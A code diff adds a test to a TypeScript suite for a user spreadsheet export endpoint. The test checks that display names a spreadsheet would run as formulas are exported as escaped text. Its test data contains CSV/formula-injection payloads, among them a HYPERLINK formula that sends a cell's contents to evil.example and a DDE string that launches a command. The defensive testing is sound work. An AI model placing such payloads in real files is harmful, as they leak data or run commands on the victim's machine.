@@ -41,6 +41,27 @@ describe('GET /api/users/export.xlsx', () => {
     expect(entry?.object_region).toBe(PLACES.wangqiao);
   });
 
+  it('writes a name that a spreadsheet would run as a formula as text, behind an apostrophe (issue 15 finding 15)', async () => {
+    const names = ['=HYPERLINK("http://evil.example/?x="&A2,"点此查看")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+1', '-2+3', '\t=1+1', '＝1+1'];
+    for (const [i, name] of names.entries()) {
+      const user = await buildUser(t.ctx, { username: `qj.formula${i}`, regionCode: PLACES.qujia, roles: ['village_cadre'] });
+      await t.ctx.db.updateTable('users').set({ display_name: name }).where('id', '=', user.id).execute();
+    }
+    const res = await (await t.login('wq.exporter')).request('GET', '/api/users/export.xlsx');
+    expect(res.statusCode).toBe(200);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
+    const cells = new Map<string, ExcelJS.Cell>();
+    workbook.worksheets[0]?.eachRow((row) => cells.set(String(row.getCell(1).value), row.getCell(2)));
+    for (const [i, name] of names.entries()) {
+      const cell = cells.get(`qj.formula${i}`);
+      expect(cell?.type).toBe(ExcelJS.ValueType.String);
+      expect(cell?.value).toBe(`'${name}`);
+    }
+    // An ordinary name is left as it was.
+    expect(cells.get('qj.phone')?.value).toBe('测试qj.phone');
+  });
+
   it('refuses a village cadre (no export permission) and a filter outside the actor’s region', async () => {
     const cadre = await t.login('qj.reader');
     expect((await cadre.request('GET', '/api/users/export.xlsx')).statusCode).toBe(403);
